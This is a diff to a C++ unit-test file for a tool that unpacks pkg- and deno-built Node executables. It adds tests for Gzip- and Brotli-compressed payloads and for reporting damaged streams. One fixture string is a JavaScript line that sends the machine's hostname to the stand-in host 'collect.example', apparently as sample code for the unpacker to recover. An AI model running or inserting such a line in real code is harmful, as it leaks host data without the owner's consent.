@@ -6,9 +6,11 @@
 
 #include <archive.h>
 #include <archive_entry.h>
+#include <brotli/encode.h>
 #include <fmt/format.h>
 #include <gtest/gtest.h>
 #include <unistd.h>
+#include <zlib.h>
 
 #include <cstdlib>
 #include <cstring>
@@ -583,21 +585,14 @@ TEST(NodeSea, SnapshotIsNotedNotRead) {
 
 // --- pkg, deno --------------------------------------------------------------
 
-TEST(Pkg, PayloadFromPlaceholders) {
-  std::string payload =
-      "BYTECODE.."
-      "module.exports = process.env.HTTPS_PROXY;\n"
-      "{\"a\":1}";
-  std::string vfs =
-      "{\"/snapshot/app/index.js\":{\"0\":[0,10],\"1\":[10,42],\"3\":[0,0]},"
-      "\"/snapshot/app/data.json\":{\"1\":[52,7]},\"/snapshot/app/only.js\":{\"0\":[0,10]},"
-      "\"/snapshot/app\":{\"2\":[0,0]}}";
+// A pkg executable: runtime noise, the four placeholders filled in, the
+// payload, and a prelude ending in the VFS arguments with `compress`.
+std::string PkgFile(const std::string& payload, const std::string& vfs, const std::string& compress) {
   std::string prelude =
       "return (function (REQUIRE_COMMON, VIRTUAL_FILESYSTEM) { ... })(function (exports) {\n"
       "stuff\n},\n" +
-      vfs + "\n,\n\"/snapshot/app/index.js\"\n,\n{}\n,\n{}\n,\n0\n);";
-  std::string head = RuntimeNoise();
-  std::string file = head +
+      vfs + "\n,\n\"/snapshot/app/index.js\"\n,\n{}\n,\n{}\n,\n" + compress + "\n);";
+  std::string file = RuntimeNoise() +
                      "var PAYLOAD_POSITION = 'AAAAAAAAAA' | 0;var PAYLOAD_SIZE = 'BBBBBBBBBB' | 0;"
                      "var PRELUDE_POSITION = 'CCCCCCCCCC' | 0;var PRELUDE_SIZE = 'DDDDDDDDDD' | 0;";
   size_t payload_pos = file.size();
@@ -613,7 +608,19 @@ TEST(Pkg, PayloadFromPlaceholders) {
   fill('B', payload.size());
   fill('C', prelude_pos);
   fill('D', prelude.size());
-  auto u = UnpackBytes(file, "pkg-app");
+  return file;
+}
+
+TEST(Pkg, PayloadFromPlaceholders) {
+  std::string payload =
+      "BYTECODE.."
+      "module.exports = process.env.HTTPS_PROXY;\n"
+      "{\"a\":1}";
+  std::string vfs =
+      "{\"/snapshot/app/index.js\":{\"0\":[0,10],\"1\":[10,42],\"3\":[0,0]},"
+      "\"/snapshot/app/data.json\":{\"1\":[52,7]},\"/snapshot/app/only.js\":{\"0\":[0,10]},"
+      "\"/snapshot/app\":{\"2\":[0,0]}}";
+  auto u = UnpackBytes(PkgFile(payload, vfs, "0"), "pkg-app");
   ASSERT_TRUE(u.ok());
   ASSERT_EQ(u->kind, "pkg") << ::testing::PrintToString(u->notes);
   ASSERT_EQ(u->modules.size(), 2u) << ::testing::PrintToString(u->notes);
@@ -623,6 +630,63 @@ TEST(Pkg, PayloadFromPlaceholders) {
   EXPECT_TRUE(index->has_bytecode);
   EXPECT_TRUE(index->entry_point);
   EXPECT_TRUE(NoteContains(*u, "1 files are stored as V8 bytecode only"));
+}
+
+std::string Gzip(std::string_view in) {
+  z_stream z{};
+  EXPECT_EQ(deflateInit2(&z, 9, Z_DEFLATED, 15 + 16, 8, Z_DEFAULT_STRATEGY), Z_OK);
+  std::string out(deflateBound(&z, in.size()) + 32, '\0');
+  z.next_in = reinterpret_cast<Bytef*>(const_cast<char*>(in.data()));
+  z.avail_in = static_cast<uInt>(in.size());
+  z.next_out = reinterpret_cast<Bytef*>(out.data());
+  z.avail_out = static_cast<uInt>(out.size());
+  EXPECT_EQ(deflate(&z, Z_FINISH), Z_STREAM_END);
+  out.resize(z.total_out);
+  deflateEnd(&z);
+  return out;
+}
+
+std::string Brotli(std::string_view in) {
+  size_t n = BrotliEncoderMaxCompressedSize(in.size());
+  std::string out(n, '\0');
+  EXPECT_TRUE(BrotliEncoderCompress(BROTLI_DEFAULT_QUALITY, BROTLI_DEFAULT_WINDOW, BROTLI_MODE_TEXT, in.size(),
+                                    reinterpret_cast<const std::uint8_t*>(in.data()), &n,
+                                    reinterpret_cast<std::uint8_t*>(out.data())));
+  out.resize(n);
+  return out;
+}
+
+// `pkg --compress GZip|Brotli` stores every file as its own stream.
+TEST(Pkg, CompressedPayloadsAreReadAndDamageIsNamed) {
+  const std::string source = "const h = require('os').hostname(); fetch('https://collect.example/' + h);\n";
+  const std::string json = "{\"endpoint\": \"https://cfg.example/v1\"}";
+  for (const std::string mode : {"1", "2"}) {
+    auto pack = [&](std::string_view s) { return mode == "1" ? Gzip(s) : Brotli(s); };
+    const std::string a = pack(source), b = pack(json);
+    const std::string broken = pack(source).substr(0, a.size() / 2);
+    const std::string payload = a + b + broken;
+    const std::string vfs = fmt::format(
+        "{{\"/snapshot/app/index.js\":{{\"1\":[0,{}]}},\"/snapshot/app/cfg.json\":{{\"1\":[{},{}]}},"
+        "\"/snapshot/app/cut.js\":{{\"1\":[{},{}]}}}}",
+        a.size(), a.size(), b.size(), a.size() + b.size(), broken.size());
+    auto u = UnpackBytes(PkgFile(payload, vfs, mode), "pkg-app");
+    ASSERT_TRUE(u.ok());
+    ASSERT_EQ(u->kind, "pkg") << mode;
+    ASSERT_EQ(u->modules.size(), 2u) << mode << ::testing::PrintToString(u->notes);
+    const Module* index = Find(*u, "/snapshot/app/index.js");
+    ASSERT_NE(index, nullptr);
+    EXPECT_EQ(index->text, source);
+    EXPECT_EQ(index->stored_bytes, a.size());
+    EXPECT_TRUE(index->entry_point);
+    ASSERT_NE(Find(*u, "/snapshot/app/cfg.json"), nullptr);
+    EXPECT_EQ(Find(*u, "/snapshot/app/cfg.json")->text, json);
+    EXPECT_TRUE(NoteContains(*u, "'/snapshot/app/cut.js' (")) << ::testing::PrintToString(u->notes);
+    EXPECT_TRUE(NoteContains(*u, "could not be decompressed"));
+  }
+  auto unknown = UnpackBytes(PkgFile("x", "{\"/snapshot/app/index.js\":{\"1\":[0,1]}}", "7"), "pkg-app");
+  ASSERT_TRUE(unknown.ok());
+  EXPECT_TRUE(unknown->modules.empty());
+  EXPECT_TRUE(NoteContains(*unknown, "compression mode '7'"));
 }
 
 TEST(Deno, TrailerLayout) {
